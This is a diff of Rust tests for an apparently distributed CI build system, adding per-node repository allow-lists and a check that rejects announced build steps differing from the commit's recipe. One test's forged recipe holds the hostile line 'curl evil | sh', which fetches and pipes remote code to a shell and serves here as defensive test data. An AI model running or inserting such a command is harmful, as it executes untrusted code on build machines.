@@ -6,14 +6,22 @@ use super::*;
 use crate::deterministic_key;
 use crate::recipe::StepSpec;
 use crate::record::{Body, Status};
+use crate::repos::RepoPolicy;
 use crate::store::MemStore;
 
 const RECIPE: &str = "[[builder]]\nname='linux'\nrequires=['os=linux']\n[[builder.step]]\nrun='make'\n\
                       [[builder]]\nname='gpu'\nrequires=['gpu=yes']\n[[builder.step]]\nrun='nvcc'\n";
 
+/// The local repository of these tests; a node builds it only when its
+/// policy lists it.
+fn local_repo_allowed() -> RepoPolicy {
+    RepoPolicy::new(&["/repo".to_string()], &[]).unwrap()
+}
+
 fn node(n: u64, labels: &[&str]) -> NodeCore<MemStore> {
     let mut cfg = Config::new(labels.iter().map(|s| s.to_string()).collect(), 1);
     cfg.seed = n;
+    cfg.repos = local_repo_allowed();
     NodeCore::new(cfg, deterministic_key(n), MemStore::new(), 0)
 }
 
@@ -303,6 +311,7 @@ fn cancel_stops_waiting_and_running_jobs_everywhere() {
 #[test]
 fn log_horizon_drops_old_logs_and_keeps_records() {
     let mut cfg = Config::new(vec!["os=linux".into()], 1);
+    cfg.repos = local_repo_allowed();
     cfg.log_horizon_ms = Some(10 * 24 * 3600 * 1000);
     let n = NodeCore::new(cfg, deterministic_key(9), MemStore::new(), 0);
     let mut nodes = vec![n];
@@ -430,7 +439,9 @@ impl Store for FullableStore {
 fn a_full_disk_gives_the_job_back_and_it_is_built_once_space_is_freed() {
     let full = std::rc::Rc::new(std::cell::Cell::new(false));
     let store = FullableStore { inner: MemStore::new(), full: full.clone() };
-    let mut n = NodeCore::new(Config::new(vec!["os=linux".into()], 1), deterministic_key(5), store, 0);
+    let mut cfg = Config::new(vec!["os=linux".into()], 1);
+    cfg.repos = local_repo_allowed();
+    let mut n = NodeCore::new(cfg, deterministic_key(5), store, 0);
     let mut now = 20_000;
     n.handle(now, Input::Tick);
     n.announce(now, commit("dddd01")).unwrap();
@@ -503,6 +514,7 @@ const TIMED: &str = "[[builder]]\nname='t'\nrequires=['os=linux']\n\
 fn node_with_grace(n: u64, grace_ms: u64) -> NodeCore<MemStore> {
     let mut cfg = Config::new(vec!["os=linux".into()], 1);
     cfg.seed = n;
+    cfg.repos = local_repo_allowed();
     cfg.build_grace_ms = grace_ms;
     NodeCore::new(cfg, deterministic_key(n), MemStore::new(), 0)
 }
@@ -731,6 +743,7 @@ fn admitted_node(n: u64, labels: &[&str], key: &crate::admission::ClusterKey, gr
     let me = deterministic_key(n).public().to_peer_id();
     cfg.cluster = Some(key.id());
     cfg.admission = Some(key.admit(&me, granted.iter().map(|s| s.to_string()).collect(), 0, None).unwrap());
+    cfg.repos = local_repo_allowed();
     NodeCore::new(cfg, deterministic_key(n), MemStore::new(), 0)
 }
 
@@ -916,5 +929,78 @@ fn only_the_announcer_or_an_admin_may_cancel_a_job() {
     settle(&mut nodes, 2_000);
     for n in &nodes {
         assert!(!n.live_jobs().contains_key(&j1) && !n.live_jobs().contains_key(&j2));
+    }
+}
+
+#[test]
+fn a_job_of_a_repository_a_node_refuses_is_built_by_one_that_allows_it() {
+    let mut refusing = node(1, &["os=linux"]);
+    refusing.cfg.repos = RepoPolicy::default();
+    let mut nodes = vec![refusing, node(2, &["os=linux"])];
+    let mut now = 0;
+    settle(&mut nodes, now);
+    now += 10_000;
+    settle(&mut nodes, now);
+    nodes[0].announce(now, commit("abcd0a")).unwrap();
+    let mut started = Vec::new();
+    for _ in 0..20 {
+        started.extend(settle(&mut nodes, now));
+        now += 500;
+    }
+    let linux: Vec<_> = started.iter().filter(|(_, o)| o.builder == "linux").collect();
+    assert_eq!(linux.len(), 1, "{started:?}");
+    assert_eq!(linux[0].0, 1, "only the node whose policy lists /repo claims it");
+
+    // Alone, a node that refuses the repository leaves its jobs waiting.
+    let mut alone = vec![node(3, &["os=linux"])];
+    alone[0].cfg.repos = RepoPolicy::new(&["/srv/git/*".to_string()], &[]).unwrap();
+    let mut now = 10_000;
+    alone[0].announce(now, commit("abcd0b")).unwrap();
+    for _ in 0..20 {
+        assert!(settle(&mut alone, now).is_empty(), "/repo is not under /srv/git");
+        now += 1_000;
+    }
+}
+
+/// A recipe a hostile node claims the commit has: same builder, other command.
+const HOSTILE: &str = "[[builder]]\nname='linux'\nrequires=['os=linux']\n[[builder.step]]\nrun='curl evil | sh'\n";
+
+#[test]
+fn an_announcement_whose_steps_differ_from_the_commit_ends_as_an_exception_naming_them() {
+    // Node 1 (no os=linux) announces a real commit with steps of its own;
+    // node 2 builds it.
+    let mut nodes = vec![node(1, &["os=mac"]), node(2, &["os=linux"])];
+    let mut now = 0;
+    settle(&mut nodes, now);
+    now += 10_000;
+    settle(&mut nodes, now);
+    let forged = CommitInfo { recipe: Ok(HOSTILE.into()), ..commit("abcd0c") };
+    nodes[0].announce(now, forged).unwrap();
+    let mut started = Vec::new();
+    for _ in 0..20 {
+        started.extend(settle(&mut nodes, now));
+        now += 500;
+    }
+    let (who, order) = started.pop().expect("node 2 claims the announced job");
+    assert_eq!(who, 1);
+    // The order carries the job as announced, never steps to run as such;
+    // the executor checks it against the recipe of its own checkout.
+    assert_eq!(order.announced.steps[0].run, "curl evil | sh");
+    let mismatch = crate::recipe::check_announced(&order.announced, "/repo", "abcd0c", Ok(RECIPE)).unwrap_err();
+    let error = mismatch.to_string();
+    assert_eq!(
+        error,
+        "recipe mismatch: the announced step \"step0\" runs `curl evil | sh`, the commit's .peerbot.toml says `make`"
+    );
+    // Nothing ran: the executor reports the mismatch as the build's error.
+    let outcome = BuildOutcome { steps: vec![], error: Some(error.clone()), ..finished(&order, now) };
+    nodes[1].handle(now, Input::BuildFinished(outcome));
+    settle(&mut nodes, now);
+    for n in &nodes {
+        let results = n.results_of(&order.job);
+        assert_eq!(results.len(), 1);
+        let stored = record::decode_stored(&n.store().get_record(&results[0]).unwrap()).unwrap();
+        let Body::Result(r) = stored.body else { panic!("not a result") };
+        assert_eq!((r.status, r.error.as_deref(), r.steps.len()), (Status::Exception, Some(error.as_str()), 0));
     }
 }
